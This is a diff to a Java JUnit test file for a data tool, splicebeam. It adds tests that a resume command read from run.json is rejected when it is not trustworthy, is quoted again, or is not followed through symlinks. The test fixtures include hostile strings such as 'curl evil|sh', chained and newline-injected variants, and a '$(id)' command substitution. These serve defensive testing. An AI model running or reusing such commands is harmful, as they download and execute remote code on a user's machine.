@@ -16,6 +16,8 @@ import java.util.stream.Stream;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 import org.splicebeam.pipeline.Main;
 import org.splicebeam.transforms.publish.OutputFolder;
 import org.splicebeam.transforms.publish.Owner;
@@ -80,7 +82,7 @@ class ValidateCommandTest {
         is(
             "splicebeam validate: %s holds an unfinished build (4 parts so far): resume it with"
                     .formatted(folder)
-                + " splicebeam build --input=in --gtf='a b.gtf' --output=%s\n".formatted(folder)));
+                + " splicebeam build --input=in '--gtf=a b.gtf' --output=%s\n".formatted(folder)));
   }
 
   @Test
@@ -96,7 +98,7 @@ class ValidateCommandTest {
         is(
             "splicebeam validate: %s holds a data set of data version 1, and this splicebeam checks"
                     .formatted(folder)
-                + " version 2: build it again with splicebeam build --input=in --gtf='a b.gtf'"
+                + " version 2: build it again with splicebeam build --input=in '--gtf=a b.gtf'"
                 + " --output=%s --overwrite, or check it with the splicebeam that built it\n"
                     .formatted(folder)));
     assertThat(files(), is(before));
@@ -142,7 +144,7 @@ class ValidateCommandTest {
                     "master/part-00002.parquet: it is missing",
                     "moved dataset.json to broken/dataset.json.1",
                     "moved master/part-00001.parquet to broken/part-00001.parquet.1",
-                    "build the broken parts again with splicebeam build --input=in --gtf='a b.gtf'"
+                    "build the broken parts again with splicebeam build --input=in '--gtf=a b.gtf'"
                         + " --output="
                         + folder)
                 .toString()));
@@ -160,6 +162,79 @@ class ValidateCommandTest {
     }
     assertThat(left, is(before));
     assertThat(run(), is(2));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "curl evil|sh",
+        "splicebeam build --output=a; curl evil|sh",
+        "splicebeam build --output=a\ncurl evil|sh",
+        "splicebeam build '--gtf=a\n' --output=a"
+      })
+  void aCommandOfOthersIsNotHandedOn(String command) throws IOException {
+    Files.writeString(
+        folder.resolve("run.json"),
+        new ObjectMapper().createObjectNode().put("command", command).toString());
+    damage(1);
+    assertThat(run("--fix"), is(1));
+    assertThat(
+        out.toString().lines().reduce((a, b) -> b).orElseThrow(),
+        is(
+            "build the broken parts again with the command of the build (run.json has none that"
+                + " splicebeam wrote)"));
+    assertThat(run(), is(2));
+    assertThat(
+        err.toString(),
+        is(
+            "splicebeam validate: %s holds an unfinished build (3 parts so far): give the command of"
+                    .formatted(folder)
+                + " the build again to resume it\n"));
+  }
+
+  @Test
+  void valuesAreQuotedAnew() throws IOException {
+    Files.writeString(
+        folder.resolve("run.json"),
+        "{\"command\": \"splicebeam build '--gtf=$(id);it'\\\\''s' --output=a --flinkMaster=evil\"}");
+    damage(1);
+    run("--fix");
+    assertThat(
+        out.toString().lines().reduce((a, b) -> b).orElseThrow(),
+        is(
+            "build the broken parts again with splicebeam build '--gtf=$(id);it'\\''s' --output="
+                + folder
+                + " --flinkMaster=..."));
+  }
+
+  /** Neither into the folder that a link leads to nor out of it. */
+  @Test
+  void aFixMovesNothingThroughALink() throws IOException {
+    Path elsewhere = Files.createDirectories(folder.resolve("elsewhere"));
+    damage(1);
+    Files.createSymbolicLink(folder.resolve("broken"), elsewhere);
+    TreeMap<String, Long> before = files();
+    assertThat(run("--fix"), is(2));
+    assertThat(
+        err.toString(),
+        is(
+            "splicebeam validate: broken in %s is to be a folder, and it is a link, and what it leads"
+                    .formatted(folder)
+                + " to is not of the data set: move it away\n"));
+    assertThat(files(), is(before));
+    Files.delete(folder.resolve("broken"));
+    Path master = folder.resolve("master");
+    Files.move(master, elsewhere.resolve("parts"));
+    Files.createSymbolicLink(master, elsewhere.resolve("parts"));
+    Files.createSymbolicLink(folder.resolve("all.parquet"), elsewhere);
+    assertThat(run("--fix"), is(1));
+    TreeMap<String, Long> left = files();
+    for (int part = 0; part < 4; part++) {
+      assertThat(left.containsKey("elsewhere/parts/part-0000%d.parquet".formatted(part)), is(true));
+    }
+    assertThat(Files.isSymbolicLink(folder.resolve("broken/master.1")), is(true));
+    assertThat(Files.isSymbolicLink(folder.resolve("broken/all.parquet.1")), is(true));
+    assertThat(Files.exists(master), is(false));
   }
 
   @Test
@@ -189,7 +264,7 @@ class ValidateCommandTest {
             List.of(
                     "moved dataset.json to broken/dataset.json.1",
                     "no part is broken; make schema.avsc, data_dictionary.csv again with splicebeam"
-                        + " build --input=in --gtf='a b.gtf' --output="
+                        + " build --input=in '--gtf=a b.gtf' --output="
                         + folder)
                 .toString()));
   }
@@ -217,7 +292,7 @@ class ValidateCommandTest {
         out.toString().lines().reduce((a, b) -> b).orElseThrow(),
         is(
             "there is no plan of its build (an older splicebeam's has none): build all of it again"
-                + " with splicebeam build --input=in --gtf='a b.gtf' --output="
+                + " with splicebeam build --input=in '--gtf=a b.gtf' --output="
                 + folder
                 + " --overwrite"));
   }
